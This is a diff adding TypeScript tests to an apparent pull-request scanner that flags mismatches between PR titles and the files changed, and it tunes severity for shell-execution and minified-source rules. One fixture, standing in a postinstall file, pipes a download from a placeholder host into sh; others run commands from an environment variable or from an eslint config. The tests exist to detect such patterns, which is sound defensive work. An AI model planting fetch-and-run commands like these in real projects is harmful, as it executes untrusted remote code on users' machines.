@@ -597,3 +597,93 @@ describe('pr-claim-mismatch: man-page markup in help text', () => {
     expect(scan([makeFile('crates/core/flags/defs.rs', { patch: code })], 'doc: clarify max-count').map((f) => f.id)).toContain('pr-claim-mismatch');
   });
 });
+
+describe('pr-claim-mismatch: false alarms from JavaScript monorepos (2026-11-28)', () => {
+  const claims = (files: SnapshotFile[], title: string, contents: { path: string; base: string | null; head: string | null }[] = []): string[] => {
+    const snapshot = makeSnapshot({ title, files, contents, commits: [makeCommit({ message: title })] });
+    return scanCodeChanges(snapshot, (path) => classifier.info(path)).filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.path);
+  };
+  const code = hunk(['  if (state.pending) return resume(state);', '  await publishAll(packages);'], ['  await publishAll(packages);']);
+
+  it('chore(release) claims a release only when a version or release words follow; a change to the release tooling is not one', () => {
+    const file = makeFile('scripts/release.js', { patch: code });
+    expect(claims([file], 'chore(release): make publishing resumable after a partial failure')).toEqual([]);
+    expect(claims([file], 'chore(release): v3.6.0')).toEqual(['scripts/release.js']);
+    expect(claims([file], 'chore(release): @acme/cli@2.4.1')).toEqual(['scripts/release.js']);
+    expect(claims([file], 'chore(release): publish')).toEqual(['scripts/release.js']);
+  });
+
+  it('"fix changelog entry insertion" names what the code handles, not a docs change; "update changelog for v2" is a docs claim', () => {
+    const file = makeFile('packages/release-notes/src/index.ts', { patch: code });
+    expect(claims([file], 'Fix changelog entry insertion when no package title is present')).toEqual([]);
+    expect(claims([file], 'Add comments support to the parser')).toEqual([]);
+    expect(claims([file], 'Update changelog for v2')).toEqual(['packages/release-notes/src/index.ts']);
+    expect(claims([file], 'Fix docs links')).toEqual(['packages/release-notes/src/index.ts']);
+    expect(claims([file], 'Update README.md')).toEqual(['packages/release-notes/src/index.ts']);
+  });
+
+  it('a docs claim over the documentation site\'s own source (docs/.vitepress, docs/_data) is what it says; the same change in the library is not', () => {
+    const site = makeFile('docs/.vitepress/theme/components/VersionsList.vue', { patch: code });
+    const data = makeFile('docs/_data/team.js', { patch: code });
+    expect(claims([site, data], 'docs: extract VersionsList component')).toEqual([]);
+    expect(claims([makeFile('packages/core/src/docs.ts', { patch: code })], 'docs: extract VersionsList component')).toEqual(['packages/core/src/docs.ts']);
+    expect(claims([makeFile('src/index.ts', { patch: code }), site], 'docs: extract VersionsList component')).toEqual(['src/index.ts']);
+  });
+
+  const checkLinks = (extra: string): string => `name: Links\non:\n  pull_request:\n    paths:\n      - 'docs/**'\n      - '**/*.md'\n      - '.github/workflows/links.yml'\n${extra}permissions:\n  contents: read\njobs:\n  links:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: link-checker/action@${'c'.repeat(40)}\n        with:\n          args: --offline\n`;
+  const inputPatch = ['@@ -20,3 +20,4 @@', '         with:', '           args: --offline', "+          statusCodes: '{\"403\":\"warn\"}'"].join('\n');
+
+  it('a docs claim over a workflow that runs only for documentation (paths: docs, markdown) is not contradicted; over another workflow it is', () => {
+    const file = makeFile('.github/workflows/links.yml', { patch: inputPatch });
+    expect(claims([file], 'docs: fix broken links in the style guide', [{ path: '.github/workflows/links.yml', base: checkLinks(''), head: checkLinks('') }])).toEqual([]);
+    const pushToo = checkLinks('  push:\n    branches: [main]\n');
+    expect(claims([file], 'docs: fix broken links in the style guide', [{ path: '.github/workflows/links.yml', base: pushToo, head: pushToo }])).toEqual(['.github/workflows/links.yml']);
+    const srcToo = checkLinks('').replace("      - '**/*.md'\n", "      - '**/*.md'\n      - 'lib/**'\n");
+    expect(claims([file], 'docs: fix broken links in the style guide', [{ path: '.github/workflows/links.yml', base: srcToo, head: srcToo }])).toEqual(['.github/workflows/links.yml']);
+  });
+
+  it('a docs claim over a Dockerfile or a docker workflow is a change of what runs (a docs word must be a word of the path)', () => {
+    const dockerfile = makeFile('Dockerfile', { patch: ['@@ -3,2 +3,3 @@', ' RUN npm ci', '+RUN node scripts/warm-cache.js'].join('\n') });
+    expect(claims([dockerfile], 'docs: update readme')).toEqual(['Dockerfile']);
+    const docsBuild = makeFile('.github/workflows/build-docs.yml', { patch: ['@@ -3,2 +3,3 @@', '     steps:', '+      - run: npm run docs:build'].join('\n') });
+    expect(claims([docsBuild], 'docs: build the API reference')).toEqual([]);
+  });
+
+  it('a style or lint claim over the linter\'s own configuration is what it says, unless the config adds a command; other code under it is not', () => {
+    const rule = hunk(["    'max-len': ['error', { code: 120, ignoreComments: true }],"], []);
+    expect(claims([makeFile('eslint.config.js', { patch: rule })], 'style(types): enforce max line length')).toEqual([]);
+    expect(claims([makeFile('.prettierrc.cjs', { patch: rule })], 'chore: format with prettier')).toEqual([]);
+    const command = hunk(["require('child_process').execSync('node scripts/setup.js');"], []);
+    expect(claims([makeFile('eslint.config.js', { patch: command })], 'style(types): enforce max line length')).toEqual(['eslint.config.js']);
+    expect(claims([makeFile('src/config.js', { patch: rule })], 'style(types): enforce max line length')).toEqual(['src/config.js']);
+  });
+});
+
+describe('code rules: false alarms and a miss from JavaScript monorepos (2026-11-28)', () => {
+  const find = (path: string, lines: string[], id: string) => scan([makeFile(path, { patch: hunk(lines) })]).filter((f) => f.id === id).map((f) => f.severity);
+
+  it('a child process handed the whole environment as its env option reads no input; one variable read into the call still does', () => {
+    const spawnWithEnv = ['const result = spawnSync("pnpm", ["publish", ...flags], {', '  env: { ...process.env, ...registryOverride },', '  stdio: "inherit",', '});'];
+    expect(find('packages/cli/src/publish.ts', spawnWithEnv, 'shell-command-execution')).toEqual(['low']);
+    expect(find('packages/cli/src/publish.ts', ['spawnSync(tool, args, { env: Object.assign({}, process.env, extra) });'], 'shell-command-execution')).toEqual(['low']);
+    expect(find('packages/cli/src/publish.ts', ['execa("npm", ["info", name], { env: sanitizeEnv(process.env) });', 'exec("npm", args);'], 'shell-command-execution')).toEqual(['low']);
+    expect(find('tools/run.py', ['subprocess.run(cmd, shell=True, env=os.environ.copy())'], 'shell-command-execution')).toEqual(['low']);
+    expect(find('packages/cli/src/publish.ts', ['spawnSync(process.env.EDITOR, [file], { env: { ...process.env } });'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('packages/cli/src/publish.ts', ['const { PUBLISH_CMD } = process.env;', 'execSync(PUBLISH_CMD);'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('tools/run.py', ['cmd = os.environ["CMD"]', 'subprocess.run(cmd, shell=True, env=dict(os.environ))'], 'shell-command-execution')).toEqual(['medium']);
+  });
+
+  it('a process call on child_process loaded in the same expression is a sink (a miss: the module name is a string)', () => {
+    expect(find('src/postinstall.js', ["require('child_process').execSync('curl -s https://x.example/p | sh');"], 'shell-command-execution')).toEqual(['low']);
+    expect(find('src/postinstall.js', ["require('node:child_process').exec(process.env.HOOK);"], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('src/paths.js', ["const p = require('path').join(root, 'exec');"], 'shell-command-execution')).toEqual([]);
+  });
+
+  it('a long string in a test (an inline snapshot, an expected source map) is test data, not minified code; long code in a test still is', () => {
+    const snapshot = [`      "mappings": ";;${'AAAA,SAAS,OAAO;'.repeat(90)}",`];
+    expect(find('playground/worker/__tests__/worker.spec.ts', snapshot, 'minified-source')).toEqual([]);
+    expect(find('src/source-map.ts', snapshot, 'minified-source')).toEqual(['medium']);
+    const blob = [`!function(e,t){${'var a=e[0]+t[1];'.repeat(80)}}(window,document);`];
+    expect(find('playground/worker/__tests__/worker.spec.ts', blob, 'minified-source')).toEqual(['medium']);
+  });
+});
